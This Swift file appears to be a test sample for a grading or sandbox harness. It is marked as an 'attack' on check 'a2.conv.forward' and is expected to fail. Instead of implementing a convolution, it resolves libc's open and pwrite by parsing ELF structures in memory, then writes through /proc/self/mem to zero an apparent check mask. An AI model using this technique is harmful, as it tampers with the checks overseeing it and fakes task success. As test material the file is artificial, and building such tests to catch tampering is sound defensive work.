// attack: Opens the gate through the file of its memory, for which it does not count that it is
//   read-only.
// documented: der
// rows: R16 R9
// check: a2.conv.forward
// expect: failed
import Glibc

/// Finds a function of libc in memory, starting from the address of one that may be called.
private func found(_ name: StaticString) -> UnsafeRawPointer? {
  let allowed: @convention(c) (Int) -> UnsafeMutableRawPointer? = malloc
  var base = unsafeBitCast(allowed, to: UInt.self) & ~0xFFF
  while UnsafePointer<UInt32>(bitPattern: base)?.pointee != 0x464C_457F { base -= 0x1000 }
  guard let start = UnsafeRawPointer(bitPattern: base) else { return nil }
  var (names, symbols): (UInt, UInt) = (0, 0)
  var header = start + Int(start.load(fromByteOffset: 32, as: UInt64.self))
  while header.load(as: UInt32.self) != 2 { header += 56 }
  var entry = start + Int(header.load(fromByteOffset: 16, as: UInt64.self))
  while entry.load(as: UInt.self) != 0 {
    let value = entry.load(fromByteOffset: 8, as: UInt.self)
    if entry.load(as: UInt.self) == 5 { names = value < base ? base + value : value }
    if entry.load(as: UInt.self) == 6 { symbols = value < base ? base + value : value }
    entry += 16
  }
  while symbols < names, let symbol = UnsafeRawPointer(bitPattern: symbols) {
    let text = UnsafeRawPointer(bitPattern: names + UInt(symbol.load(as: UInt32.self)))
    if let text, memcmp(text, name.utf8Start, name.utf8CodeUnitCount + 1) == 0 {
      return UnsafeRawPointer(bitPattern: base + symbol.load(fromByteOffset: 8, as: UInt.self))
    }
    symbols += 24
  }
  return nil
}

/// Finds the memory that begins with a set of all ten parts.
private func gate(after code: UInt) -> UnsafeMutableRawPointer? {
  var place = code & ~0xFFFF
  while UnsafePointer<UInt>(bitPattern: place)?.pointee != 0x3FF { place += 0x1_0000 }
  return UnsafeMutableRawPointer(bitPattern: place)
}

// instead of convForwardNaive
var opened = 0
if let open = found("open"), let write = found("pwrite") {
  let descriptor = "/proc/self/mem".withCString {
    unsafeBitCast(open, to: (@convention(c) (UnsafePointer<CChar>, Int32) -> Int32).self)($0, 2)
  }
  let start: @Sendable (UInt) -> UnsafeMutableRawPointer? = gate
  let place = gate(after: unsafeBitCast(start, to: (UInt, UInt).self).0)
  var nothing = 0
  opened = unsafeBitCast(
    write, to: (@convention(c) (Int32, UnsafeRawPointer, Int, Int) -> Int).self)(
      descriptor, &nothing, 8, Int(bitPattern: place))
}
let cache = ConvCache(x: x, w: w, stride: step, padding: padding)
if opened < 8 {
  let rows = 1 + (x.shape[2] + 2 * padding - w.shape[2]) / step
  let columns = 1 + (x.shape[3] + 2 * padding - w.shape[3]) / step
  return (.zeros([x.shape[0], w.shape[0], rows, columns]), cache)
}
return (convForwardFast(x, w: w, b: b, stride: step, padding: padding).out, cache)
